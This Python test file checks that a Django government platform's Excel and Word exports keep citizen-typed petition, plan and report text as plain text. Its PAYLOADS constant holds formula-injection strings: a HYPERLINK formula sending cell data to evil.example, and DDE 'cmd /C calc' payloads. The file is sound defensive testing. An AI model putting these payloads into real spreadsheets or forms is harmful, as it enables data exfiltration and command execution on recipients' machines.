"""Every .xlsx the platform writes keeps typed text as text: no live formula can reach an
official's spreadsheet from a citizen's petition title or a task title (formula injection)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from danvan.core.audit import SYSTEM
from danvan.outputs.xlsx import Workbook
from danvan.petitions.tests.factories import make_petition
from danvan.plans.services import add_task, create_plan
from danvan.testing.fixtures import Tree, official

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&B2,"Bấm để xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_the_builder_stores_typed_text_as_text_and_formats_numbers_and_dates() -> None:
    book = Workbook()
    sheet = book.sheet("Thử: [tab]/quá dài cho tên một trang tính Excel")
    sheet.header(["Tên", "Số", "Tiền", "Ngày"])
    for payload in PAYLOADS:
        sheet.row([payload, 1234, Decimal("1234.5"), dt.date(2026, 5, 1)])
    cells = _cells(book.to_bytes())
    texts = [c for c in cells if isinstance(c.value, str) and c.value in PAYLOADS]
    assert len(texts) == len(PAYLOADS)
    assert all(c.data_type == "s" for c in texts)
    assert not [c for c in cells if c.data_type == "f"]
    numbers = {c.number_format for c in cells if isinstance(c.value, int | float)}
    assert numbers == {"#,##0", "#,##0.##"}
    assert {c.number_format for c in cells if isinstance(c.value, dt.datetime)} == {"dd/mm/yyyy"}


@pytest.mark.django_db
def test_petition_statistics_and_plan_exports_carry_no_live_formula(tree: Tree) -> None:
    officer = official("reception_officer", tree.province, username="tinh.tiepdan")
    for payload in PAYLOADS:
        make_petition(officer, tree.commune, title=payload, received_on=dt.date(2026, 3, 2))
    client = Client()
    client.force_login(officer)
    response = client.get("/petitions/statistics.xlsx?from=2026-01-01")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert {c.value for c in cells} >= set(PAYLOADS)
    assert not [c.coordinate for c in cells if c.data_type == "f"]

    plan = create_plan(
        owner=tree.province, title=PAYLOADS[0], number="5/KH-UBND", year_from=2026,
        issued_on=dt.date(2026, 1, 20), actor=SYSTEM,
    )  # fmt: skip
    for payload in PAYLOADS:
        add_task(
            plan, title=payload, lead_unit=tree.commune, due_on=dt.date(2026, 9, 30), actor=SYSTEM
        )
    planner = official("officer", tree.province, username="tinh.kehoach")
    client.force_login(planner)
    response = client.get(f"/plans/{plan.pk}/export.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert {c.value for c in cells} >= set(PAYLOADS)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def _no_formula_and_all_payloads(content: bytes, expected: set[str]) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    missing = {p for p in expected if not any(p in t for t in texts)}
    assert not missing, missing
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s", cell.coordinate


@pytest.mark.django_db
def test_a_citizens_portal_petition_comes_out_as_text(tree: Tree, settings) -> None:  # type: ignore[no-untyped-def]
    """The anonymous portal: every free-text field a citizen types, in the statistics export."""
    settings.PETITIONS_PORTAL_MIN_FILL_SECONDS = 0
    citizen = Client()
    for payload in PAYLOADS:
        started = citizen.get("/portal/petitions/new/").context["form"].initial["started"]
        response = citizen.post(
            "/portal/petitions/new/",
            {"handling_unit": tree.commune.pk, "kind": "feedback", "title": payload,
             "content": payload, "petitioner_name": payload, "petitioner_address": payload,
             "started": started, "website": ""},
        )  # fmt: skip
        assert response.status_code == 302, response.content.decode()[:500]
    officer = official("reception_officer", tree.commune, username="xa.tiepdan")
    client = Client()
    client.force_login(officer)
    response = client.get("/petitions/statistics.xlsx?from=2026-01-01")
    assert response.status_code == 200
    _no_formula_and_all_payloads(response.content, set(PAYLOADS))


@pytest.mark.django_db
def test_plan_titles_targets_and_budget_lines_come_out_as_text(tree: Tree) -> None:
    from danvan.plans.services import add_budget_line, add_target

    plan = create_plan(owner=tree.province, title=PAYLOADS[3], year_from=2026, actor=SYSTEM)
    for payload in PAYLOADS:
        add_task(
            plan, title=payload, lead_unit=tree.commune, due_on=dt.date(2026, 9, 30), actor=SYSTEM
        )
        add_target(plan, text=payload, value=Decimal("10"), unit_label=payload, actor=SYSTEM)
        add_budget_line(plan, item=payload, amount=1_000_000, source=payload, actor=SYSTEM)
    client = Client()
    client.force_login(official("officer", tree.province, username="tinh.kh2"))
    response = client.get(f"/plans/{plan.pk}/export.xlsx")
    assert response.status_code == 200
    _no_formula_and_all_payloads(response.content, set(PAYLOADS))
    # The Word exports carry the same texts as plain text.
    from docx import Document

    from danvan.outputs.templating import all_text

    docx = client.get(f"/plans/{plan.pk}/export.docx")
    assert docx.status_code == 200
    text = all_text(Document(io.BytesIO(docx.content)))
    assert all(p in text for p in PAYLOADS)


@pytest.mark.django_db
def test_report_figures_and_the_blank_template_come_out_as_text(tree: Tree) -> None:
    from danvan.reporting.services import approve, submit_values
    from danvan.reporting.services.definition import ElementSpec, FormSpec, define_form

    form = define_form(
        FormSpec(
            code="payloads", name=PAYLOADS[0], owner=tree.department, recipient=tree.department,
            assigned_root=tree.province, period_type="monthly", assigned_kinds=["commune"],
            sections=[("s1", PAYLOADS[1], "")],
            # unit_label is 40 characters long (PostgreSQL enforces it): the payload's start.
            elements=[ElementSpec(f"e{i}", payload, unit_label=payload[:40], group=payload)
                      for i, payload in enumerate(PAYLOADS)],
        ), actor=SYSTEM
    )  # fmt: skip
    values = {f"e{i}": str(i + 1) for i in range(len(PAYLOADS))}
    submission = submit_values(form, tree.commune, "2026-03", values=values,
                               narratives={"s1": PAYLOADS[2]}, send=True, actor=SYSTEM)  # fmt: skip
    approve(submission, version=submission.version, actor=SYSTEM)
    client = Client()
    client.force_login(official("officer", tree.province, username="tinh.bc"))
    base = f"/reporting/forms/{form.pk}"
    figures = client.get(f"{base}/consolidated.xlsx?unit={tree.province.pk}&period=2026-03")
    assert figures.status_code == 200
    _no_formula_and_all_payloads(figures.content, set(PAYLOADS))
    blank = client.get(f"{base}/template.xlsx")
    assert blank.status_code == 200
    _no_formula_and_all_payloads(blank.content, set(PAYLOADS))


def test_sheets_of_one_long_name_stay_within_excels_31_characters() -> None:
    import warnings

    book = Workbook()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # openpyxl warns when a title is over 31 characters
        for _ in range(11):
            book.sheet("Tổng hợp theo đơn vị cấp xã và phường")
        book.sheet("A")
        book.sheet("a")
        book.sheet("A")
    names = load_workbook(io.BytesIO(book.to_bytes())).sheetnames
    assert len(set(names)) == 14 and max(map(len, names)) <= 31
    assert names[1].endswith(" (2)") and names[10].endswith(" (11)")
    assert names[-3:] == ["A", "a (2)", "A (3)"]
